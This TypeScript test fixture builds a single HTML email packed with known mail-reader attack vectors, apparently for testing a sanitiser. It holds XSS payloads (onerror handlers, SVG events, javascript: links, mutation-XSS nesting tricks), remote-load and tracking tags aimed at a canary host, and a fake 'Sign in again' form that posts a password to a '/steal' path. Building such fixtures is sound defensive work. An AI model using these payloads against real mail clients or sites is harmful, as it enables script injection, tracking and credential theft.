/** What has broken other mail readers, in one mail. Whatever runs sets `acted` in the window it reaches; whatever is fetched comes from `canary`. */
export function hostileMail(canary: string): string {
  const act = `(top||window).acted=1;window.acted=1`
  return `<html><head><base href="${canary}/base/"><meta http-equiv="refresh" content="0;url=${canary}/refresh">
<link rel="stylesheet" href="${canary}/sheet.css"><link rel="preconnect" href="${canary}"><link rel="prefetch" href="${canary}/prefetch">
<style>@import url("${canary}/import.css"); @font-face{font-family:f;src:url(${canary}/font)} body{background:url(${canary}/body);font-family:f}
#over,.over{position:fixed!important;inset:0;z-index:99999;background:red}</style></head>
<body onload="${act}" background="${canary}/background"><script>${act}</script><script src="${canary}/script.js"></script>
<p>Dear shop, this is the visible text.</p><img src="${canary}/picture.png" width="40" height="40">
<img src="x" onerror="${act}"><svg onload="${act}"><animate attributeName="x" dur="1s" onbegin="${act}"/><a xlink:href="javascript:${act}"><text y="20">svg</text></a><set attributeName="href" to="javascript:${act}"/></svg>
<form action="${canary}/form"><math><mtext></form><form><mglyph><style></math><img src onerror="${act}"></form>
<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript><textarea></textarea><img src=x onerror=${act}></textarea>
<p title='"><img src=x onerror=${act}>'>quoted</p><details open ontoggle="${act}">details</details>
<form action="${canary}/steal" method="post"><input name="password"><button>Sign in again</button></form>
<a href="javascript:${act}">a link</a> <a href="  jAvAsCrIpT:${act}">another</a> <a href="data:text/html,<script>${act}</script>">data</a>
<div id="over" class="over" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:url('${canary}/overlay')">Your session has ended</div>
<div style="background:\\75 rl(${canary}/escaped);--x:url(${canary}/variable);background-image:var(--x);list-style:url(${canary}/list)">styled</div>
<div style="background-image:image-set(url(${canary}/set) 1x)">set</div>
<iframe src="${canary}/frame"></iframe><object data="${canary}/object"></object><embed src="${canary}/embed"><video poster="${canary}/poster" src="${canary}/video" autoplay></video>
<picture><source srcset="${canary}/source"><img srcset="${canary}/srcset 1x"></picture><input type="image" src="${canary}/input"><table background="${canary}/table"><tr><td background="${canary}/cell">cell</td></tr></table>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;"></table></mtext></math></body></html>`
}
